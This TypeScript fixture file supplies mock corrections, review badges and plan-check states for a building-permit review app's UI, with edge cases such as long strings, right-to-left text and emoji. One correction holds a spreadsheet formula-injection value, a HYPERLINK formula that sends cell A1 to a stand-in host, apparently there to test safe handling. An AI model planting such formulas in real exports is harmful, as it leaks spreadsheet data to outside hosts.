import type { ComponentProps } from "react";
import { type AssignmentStatus, assignmentStatuses } from "~/models/assignments/assignment";
import { rowKey } from "~/models/corrections/correction";
import { type Decision, decisions } from "~/models/corrections/decision";
import {
  type EffectiveDecision,
  type PlanCheckWord,
  planCheckWords,
} from "~/models/review-cycles/plan-check";
import type { FormResult } from "~/platform/forms/form.server";
import type { CorrectionLine } from "~/ui/corrections/correction-lines";
import type { ReviewBadge } from "~/ui/corrections/review-decision";
import type { PlanCheckCard } from "~/ui/permits/plan-check-card";
import type { AnswerLinesData } from "../../permits/parts/load-permit-letters.server";
import type { PlanCheckDetail } from "../../permits/parts/load-plan-check.server";
import type { PortalPlanCheck } from "../../portal/parts/portal-plan-check";
import type { CorrectionsCardData } from "../../review/parts/load-corrections-card.server";

const correction: CorrectionLine = {
  id: 1,
  number: 1,
  discipline: "Fire",
  kind: "correction",
  sheet: "A-101",
  codeReference: "CFC 907.2.9",
  text: "Show the fire alarm system and its manual boxes at every exit.\nSubmit the battery calculations too.",
  status: "open",
  reviewCycle: "PC1",
  updatedAt: "2026-11-17T17:12:00.000Z",
};

/** Returns a correction with the number of its id. */
const line = (id: number, fields: Partial<CorrectionLine>): CorrectionLine => ({
  ...correction,
  id,
  number: id,
  ...fields,
});

const notResolvedBefore: CorrectionLine["earlier"] = [
  { reviewCycle: "PC2", verdict: "not_resolved", remark: "The stair shaft is still not rated on A-501." },
];

const answer =
  "Applicant's answer, Nov 20, 2026: The boxes are shown at each exit, with their heights. (A6.1)";

export const draft = line(1, { reviewCycle: "PC3", newReason: "revised_plans" });

export const cut = line(2, {
  text: "The exit access travel distance from the mezzanine exceeds what the code allows. "
    .repeat(5)
    .slice(0, 400),
  isCut: true,
});

/** What becomes of a correction, and texts that need care. */
export const lines: CorrectionLine[] = [
  line(3, {}),
  line(4, { earlier: notResolvedBefore }),
  line(5, {
    earlier: notResolvedBefore,
    verdict: "not_resolved",
    remark: "Detail 4/A-501 shows one hour; two hours are required.",
  }),
  line(6, { status: "resolved", verdict: "resolved", remark: "See detail 4/A-501." }),
  line(7, { status: "resolved" }),
  line(8, {
    status: "withdrawn",
    verdict: "withdrawn",
    remark: "The building has sprinklers throughout.",
  }),
  line(9, { verdict: "reopened", remark: "The revised plans removed the boxes again." }),
  line(10, {
    kind: "condition",
    text: "Before final inspection, provide the test report of the fire pump.",
  }),
  line(11, {
    kind: "note",
    sheet: undefined,
    codeReference: undefined,
    text: "The plans are well organized.",
  }),
  line(12, { newReason: "missed_earlier" }),
  line(999, {
    discipline: "Accessibility",
    sheet: "G-001 ".repeat(10).trim(),
    codeReference: `CBC ${"11B-404.2.4".repeat(12)}`,
    text: "The number, the sheet and the code reference have the greatest length.",
  }),
  line(13, { text: "Unbroken".repeat(1250) }),
  line(14, { text: "يجب إظهار نظام إنذار الحريق في المخطط A-101 عند كل مخرج." }),
  line(15, { text: "יש להציג את מערכת גילוי האש בגיליון A-101, ליד כל יציאה." }),
  line(16, {
    text: "👩🏽‍🚒🧯 Show the extinguishers 🔥, every 75 feet 👍🏻.",
    remark: "🙈",
    verdict: "not_resolved",
  }),
  line(18, { answer }),
  line(19, {
    earlier: notResolvedBefore,
    answer,
    verdict: "not_resolved",
    remark: "A6.1 is not in the set.",
  }),
  line(23, {
    answer: `Applicant's answer, Nov 20, 2026: ${"Unbroken".repeat(125)} (${"A6.1 ".repeat(10).trim()})`,
  }),
  line(17, { text: '=HYPERLINK("https://example.test/?"&A1,"Open")' }),
];

export const unchecked = line(20, { answer });
export const refused = line(21, { earlier: notResolvedBefore });
export const checked = line(22, { verdict: "resolved", status: "resolved", remark: "See detail 4/A-501." });

export const refusedBackCheck: FormResult = {
  submission: {
    status: "error",
    initialValue: { rows: { [rowKey(refused.id)]: { verdict: "not_resolved", remark: "" } } },
    error: { [`rows.${rowKey(refused.id)}.remark`]: ["Say what is still missing"] },
  },
};

const groups: CorrectionsCardData["groups"] = {
  toBackCheck: { title: "Open (0)", lines: [], total: 0, left: 0 },
  drafts: { title: "Drafts", lines: [], total: 0 },
  conditions: { lines: [], total: 0 },
  closed: { lines: [], total: 0 },
  showsClosed: false,
  more: null,
};

export const emptyCard: CorrectionsCardData = {
  cycle: "PC3",
  pasteTo: "#",
  emptyTitle: "No corrections yet",
  listTo: "#",
  letterTo: "#",
  readOnly: null,
  isInReview: true,
  released: null,
  writable: ["Fire"],
  groups,
  planCheck: { approvalWording: "approved", word: "in_review", received: "Nov 3, 2026", effective: [] },
  missingBackChecks: {},
};

const toBackCheck = [
  line(30, {}),
  line(31, {
    earlier: notResolvedBefore,
    answer,
    verdict: "not_resolved",
    remark: "Detail 4/A-501 shows one hour; two hours are required.",
  }),
  line(32, { isCut: true, text: cut.text }),
];

export const fullCard: CorrectionsCardData = {
  ...emptyCard,
  emptyTitle: null,
  groups: {
    toBackCheck: { title: "To back-check (21 of 24 left)", lines: toBackCheck, total: 23, left: 21 },
    drafts: {
      title: "Drafts",
      lines: [
        line(33, {
          newReason: "revised_plans",
          writtenBy: "Written by Maria Lopez, last edited by Dana Park",
        }),
        line(34, { kind: "note", sheet: undefined }),
      ],
      total: 2,
    },
    conditions: { lines: [line(35, { kind: "condition" })], total: 1 },
    closed: {
      lines: [
        line(36, { status: "resolved", verdict: "resolved" }),
        line(37, { status: "withdrawn", isCut: true, text: cut.text.slice(0, 100) }),
      ],
      total: 2,
    },
    showsClosed: true,
    more: 40,
  },
};

export const readOnlyCard: CorrectionsCardData = {
  ...emptyCard,
  emptyTitle: null,
  readOnly: "Oakville no longer writes corrections.",
  writable: [],
  pasteTo: null,
  groups: {
    ...groups,
    toBackCheck: { title: "To back-check (1 of 1 left)", lines: [line(40, {})], total: 1, left: 1 },
  },
};

/** The decision of a discipline, or what must be done before it. */
export const decisionLinks: { decision: Decision | null; corrections: CorrectionsCardData }[] = [
  { decision: null, corrections: emptyCard },
  { decision: "corrections_required", corrections: emptyCard },
  {
    decision: null,
    corrections: { ...emptyCard, missingBackChecks: { Fire: "Back-check F-3, F-4 and 6 more first" } },
  },
];

type Badge = ComponentProps<typeof ReviewBadge>;

export const reviewBadges: Badge[] = [
  ...Object.keys(assignmentStatuses).map((status) => ({
    assignment: { status: status as AssignmentStatus, decision: null },
    needsDecision: false,
    approvalWording: "approved" as const,
  })),
  { assignment: { status: "completed", decision: null }, needsDecision: true, approvalWording: "approved" },
  ...Object.keys(decisions).map((decision) => ({
    assignment: { status: "completed" as const, decision: decision as Decision },
    needsDecision: true,
    approvalWording: decision === "approved" ? ("recommended" as const) : ("approved" as const),
  })),
];

const undecided = { decision: null, decidedIn: null, isBeforeCorrections: false };

const effective: EffectiveDecision[] = [
  { ...undecided, discipline: "Architectural", decision: "corrections_required", decidedIn: "PC3" },
  { ...undecided, discipline: "Structural", decision: "approved_with_conditions", decidedIn: "PC2" },
  {
    discipline: "Civil",
    decision: "approved",
    decidedIn: "PC1",
    isBeforeCorrections: true,
  },
  { ...undecided, discipline: "Fire" },
];

export const planChecks: ComponentProps<typeof PlanCheckCard>["planCheck"][] = (
  Object.keys(planCheckWords) as PlanCheckWord[]
).map((word) => ({
  approvalWording: "approved",
  word,
  received: "Nov 3, 2026",
  effective:
    word === "not_started" ? [] : effective.filter(({ decision }) => word === "in_review" || decision),
}));

export const blockedPlanCheck: PlanCheckDetail = {
  cycle: "PC3",
  status: "hold",
  approvalWording: "approved",
  word: "in_review",
  received: "Nov 3, 2026",
  readOnly: null,
  disciplines: [
    { reviewer: "Maria Lopez", open: 12, new: 3, conditions: 2, notes: 1, next: 0 },
    {
      reviewer: "Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch",
      open: 1,
      new: 0,
      conditions: 0,
      notes: 0,
      next: 0,
    },
    { reviewer: undefined, open: 0, new: 0, conditions: 0, notes: 4, next: 0 },
    { reviewer: "Owen Tran", open: 200, new: 41, conditions: 12, notes: 0, next: 0 },
  ].flatMap((row, index) => {
    const decided = effective[index];
    return decided ? [{ ...decided, ...row }] : [];
  }),
  blockers: [
    { what: "Civil has open corrections from PC2 and is not in PC3", to: "#assignments" },
    { what: "Fire has no decision, completed without one", to: "#assignments" },
  ],
  outcome: null,
  isInReview: true,
  released: null,
  handedOver: null,
  mayChange: true,
};

export const readyPlanCheck: PlanCheckDetail = {
  ...blockedPlanCheck,
  word: "ready",
  disciplines: blockedPlanCheck.disciplines.filter(({ decision }) => decision),
  blockers: [],
  outcome: "corrections_required",
};

export const closedPlanCheck: PlanCheckDetail = {
  ...blockedPlanCheck,
  word: "closed",
  readOnly: "Oakville no longer writes corrections.",
  disciplines: [],
  blockers: [],
  isInReview: false,
  mayChange: false,
};

export const releasedPlanCheck: PlanCheckDetail = {
  ...readyPlanCheck,
  word: "with_city",
  isInReview: false,
  released: "Nov 20, 2026",
  mayChange: false,
};

const withApplicant: PlanCheckDetail = {
  ...releasedPlanCheck,
  status: "resubmittal_required",
  word: "with_applicant",
  handedOver: "Nov 23, 2026",
};

const noAnswers = { answered: 0, total: 23, resubmitted: null, returnRemark: null, isOpen: true };
const halfAnswered: AnswerLinesData = { answers: { ...noAnswers, answered: 11 }, failedEmail: null };
const returned: AnswerLinesData = {
  answers: {
    ...noAnswers,
    answered: 23,
    returnRemark: `The answers refer to sheet A6.1, which is not among the files.\n${"Unbroken".repeat(38)}`,
  },
  failedEmail: null,
};
const resubmitted: AnswerLinesData = {
  answers: {
    ...noAnswers,
    answered: 23,
    resubmitted: "Nov 30, 2026 by Marisol Peña, Studio Poplar",
    isOpen: false,
  },
  failedEmail: null,
};

/** What the applicant has done with the letter. */
export const answeredPlanChecks: { planCheck: PlanCheckDetail; letters: AnswerLinesData }[] = [
  {
    planCheck: withApplicant,
    letters: { answers: noAnswers, failedEmail: `${"a-long-name-".repeat(6)}@studio-poplar.example` },
  },
  { planCheck: withApplicant, letters: returned },
  { planCheck: { ...withApplicant, word: "resubmitted" }, letters: resubmitted },
];

type PortalData = ComponentProps<typeof PortalPlanCheck>;

const portal: PortalData = {
  permitId: 1,
  page: "#",
  planChecks: {
    current: { reviewCycle: "PC2", word: "With the applicant", received: "Nov 3, 2026" },
    others: [{ reviewCycle: "PC1", word: "Closed", received: "Sep 8, 2026" }],
  },
  letters: {
    ...halfAnswered,
    list: [
      {
        id: 2,
        number: "OAK-26-041-PC2",
        issued: "Nov 20, 2026",
        outcome: "Corrections required",
      },
    ],
    isBeingCorrected: false,
    handedOver: "Nov 23, 2026",
    mayHandOver: true,
    mayReopen: false,
    mayReturn: false,
  },
};

/** As the city sees them. */
export const portalPlanChecks: PortalData[] = [
  portal,
  {
    ...portal,
    planChecks: {
      ...portal.planChecks,
      current: { ...portal.planChecks.current, word: "Resubmitted" },
      others: [],
    },
    letters: portal.letters && { ...portal.letters, ...resubmitted, list: [], mayHandOver: false },
  },
];
